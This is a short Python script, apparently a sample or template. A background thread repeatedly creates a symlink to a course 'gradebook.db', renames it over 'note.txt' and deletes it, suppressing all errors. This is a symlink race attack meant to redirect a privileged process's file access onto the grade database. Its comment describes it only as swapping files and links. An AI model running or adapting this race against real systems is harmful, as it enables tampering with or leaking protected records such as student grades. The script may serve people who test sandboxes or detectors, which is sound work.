# tries: trace
# about: swaps files and links in its folder as fast as it can

import os, threading

def swap():
    while True:
        try:
            os.symlink("{course}/gradebook.db", "swap")
            os.rename("swap", "note.txt")
            os.unlink("note.txt")
        except OSError:
            pass

threading.Thread(target=swap, daemon=True).start()
